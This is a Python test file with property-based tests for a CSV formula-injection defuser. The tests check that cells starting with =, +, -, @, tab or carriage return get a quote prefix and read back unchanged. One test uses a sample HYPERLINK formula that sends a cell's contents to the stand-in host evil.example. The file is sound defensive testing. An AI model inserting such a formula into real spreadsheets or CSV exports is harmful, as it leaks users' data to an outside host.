"""CSV cells defused against formula injection, and read back unchanged."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from pec_tui.domain.csv_cells import (
    DANGEROUS,
    SafeWriter,
    defuse,
    is_safe,
    restore,
)

# Texts that often start with a dangerous character or with quotes before one.
_risky = st.text(alphabet=st.sampled_from([*DANGEROUS, "'", "a", " ", '"', ",", "\n"]))
_texts = st.one_of(st.text(), _risky)


@given(_texts)
def test_a_defused_cell_is_safe_and_restores_to_the_text(text):
    cell = defuse(text)
    assert is_safe(cell)
    assert restore(cell) == text


@given(st.lists(st.lists(_texts, min_size=1, max_size=5), min_size=1, max_size=5))
def test_rows_written_by_a_csv_writer_read_back_unchanged(rows):
    out = io.StringIO()
    writer = SafeWriter(out)
    for row in rows:
        writer.writerow(row)
    read = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert all(is_safe(cell) for row in read for cell in row)
    assert [[restore(cell) for cell in row] for row in read] == rows


def test_the_owasp_characters_are_prefixed_with_a_quote():
    for text in ("=1+1", "+39 06", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert defuse(text) == "'" + text
    assert defuse('=HYPERLINK("http://evil.example/?"&A1,"Click")').startswith("'=")


def test_plain_text_and_lone_quotes_are_left_alone():
    for text in ("Mario Rossi", "O'Brien", "'quoted'", "", "'", "a=b"):
        assert defuse(text) == text == restore(text)
    assert defuse("'=x") == "''=x" and restore("''=x") == "'=x"


def test_numbers_stay_numbers():
    out = io.StringIO()
    SafeWriter(out, convert=lambda v: f"{v:.2f}" if isinstance(v, Decimal) else v).writerow(
        [-5, Decimal("-30.50"), "-5"]
    )
    assert out.getvalue() == "-5,-30.50,'-5\n"  # text that looks like a number is still text
